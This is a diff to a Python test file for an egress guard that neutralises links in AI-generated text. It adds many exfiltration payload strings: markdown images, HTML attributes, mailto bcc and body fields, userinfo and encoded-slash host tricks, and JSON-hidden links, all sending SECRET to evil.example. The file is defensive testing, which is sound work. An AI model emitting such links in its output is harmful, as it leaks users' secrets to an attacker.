@@ -19,7 +19,7 @@ from streaming import chat, chat_events, message, message_events
 from surefoot import Call, flow, generate
 from surefoot.decisions import Decision
 from surefoot.errors import GuardRefused
-from surefoot.guards.egress import Defanged, Hosts, defanged
+from surefoot.guards.egress import Defanged, Hosts, NotDefanged, defanged
 from surefoot.ledger import decode
 from surefoot.models.chain.record import Answer
 from surefoot.values import Money
@@ -193,17 +193,36 @@ LEADING = [
     "> - ![a](//evil.example/SECRET)\n>   more",
     "<div\n<img src=//evil.example/SECRET",
     "![a](\n<https://evil.example/S ECRET>\n)",
+    # Pages that know no HTML, or trust none, read what stands within tags.
+    "<div>\n![a](https://evil.example/SECRET)\n</div>",
+    "<details>\n![a](//evil.example/SECRET)\n</details>",
+    "<!-- ![a](//evil.example/SECRET) -->",
+    "<pre>![a](//evil.example/SECRET)</pre>",
+    # What was read as a host is the name of a user.
+    "https://ok.example(@evil.example/SECRET",
+    "https://ok.example'@evil.example/SECRET",
+    "https://ok.example\u00a0@evil.example/SECRET",
+    "www.ok.example{@evil.example/SECRET",
+    "WWW.EVIL.EXAMPLE/SECRET",
+    "<img src=https://ok.example/a.png attributionsrc=//evil.example/SECRET>",
+    "<img src=https://ok.example/a.png data-src=//evil.example/SECRET>",
+    "<img src=https://ok.example/a.png dynsrc=//evil.example/SECRET>",
+    "[l](mailto:?to=me@evil.example&body=SECRET)",
+    "[l](mailto:me@ok.example?bcc=me@evil.example&body=SECRET)",
+    "[l](https://evil.example%2f.trusted.example/SECRET)",
+    "[l](https://evil.example\uff0f.trusted.example/SECRET)",
 ]
 
 
 def opened(text: str) -> list[str]:
-    """The addresses that a page would open or offer which shows a text, by two parsers that are not ours."""
+    """The addresses that a page would open or offer which shows a text, by parsers that are not ours."""
     from markdown_it import MarkdownIt
 
     found: list[str] = []
     for parser in (
         MarkdownIt("commonmark", {"html": True}),
         MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]),
+        MarkdownIt("commonmark", {"html": False}),
     ):
         parser.validateLink = lambda url: True  # type: ignore[method-assign]
         page = parser.render(text)
@@ -211,7 +230,10 @@ def opened(text: str) -> list[str]:
 
         for node in LexborHTMLParser(page).css("*"):
             for name, value in (node.attributes or {}).items():
-                if name in ("src", "href", "srcset", "action", "style", "content", "onload") and value:
+                if (
+                    name in ("src", "href", "srcset", "action", "style", "content", "onload", "dynsrc")
+                    and value
+                ):
                     found.append(value)
     return [one for one in found if "#blocked" not in one]
 
@@ -225,6 +247,61 @@ def test_out_02_what_leads_elsewhere_is_made_harmless(number: int) -> None:
     assert made.text.startswith("Here it is:\n\n")
     assert made.text.endswith("\n\nThat is *all*.")
     assert defanged(made.text, HOSTS) == Defanged(made.text, 0)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '["![", "x](//evil.example/SECRET)"]',
+        '{"a": "![", "b": ["c", "x](//evil.example/SECRET)"]}',
+        '{"a": "![x](https://evil.example/SECRET)", "a": "the later one counts"}',
+        '{"a": "![x](\\u002f/evil.example/SECRET)", "b": 123456789012345678901234567890}',
+    ],
+)
+def test_out_02_json_leads_nowhere_where_it_is_shown_as_it_is(text: str) -> None:
+    made = defanged(text, HOSTS)
+    assert made.count > 0
+    assert opened(made.text) == []
+    value = json.loads(made.text)
+    # A number of any size stays the one it was.
+    assert '"b"' not in text or value["b"] in (
+        ["c", "x] (//evil.example/SECRET)"],
+        123456789012345678901234567890,
+    )
+    assert defanged(made.text, HOSTS) == Defanged(made.text, 0)
+
+
+def test_out_02_json_that_cannot_be_looked_at_is_refused() -> None:
+    hidden = '{"a": "!\\u005bx](\\u002f/evil.example/SECRET)", "a": 1}'
+    with pytest.raises(NotDefanged, match="a key stands twice"):
+        defanged(hidden, HOSTS)
+    deep = "[" * 200 + '"![x](\\u002f/evil.example/SECRET)"' + "]" * 200
+    with pytest.raises(NotDefanged, match="nested too deeply"):
+        defanged(deep, HOSTS)
+    assert defanged("[" * 200 + "]" * 200, HOSTS).count == 0
+
+
+def test_out_02_hosts_are_read_as_browsers_do() -> None:
+    hosts = Hosts.of(["strasse.example", "b\u00fccher.example", "*.trusted.example"])
+    assert hosts.allow("https://STRASSE.example:8443/x")
+    assert hosts.allow("https://b\u00fccher.example/")
+    assert hosts.allow("https://xn--bcher-kva.example")
+    assert hosts.allow("mailto:a@strasse.example,b@x.trusted.example?subject=x&cc=c@strasse.example")
+    # A sharp s is no double s: browsers ask for another host.
+    assert Hosts.of(["stra\u00dfe.example"]).allow("https://xn--strae-oqa.example/")
+    for address in (
+        "https://stra\u00dfe.example/",
+        "https://evil.example&.trusted.example/",
+        "https://evil.example%00.trusted.example/",
+        "https://.trusted.example/",
+        "mailto:a@evil.example;b@strasse.example",
+        "mailto:a@strasse.example?x-to=b@evil.example",
+        "mailto:",
+        "\u3000//evil.example",
+        "\t/\n/evil.example",
+        "view-source:https://strasse.example",
+    ):
+        assert not hosts.allow(address), address
 
 
 @pytest.mark.parametrize("is_streamed", [False, True], ids=["at-once", "streamed"])
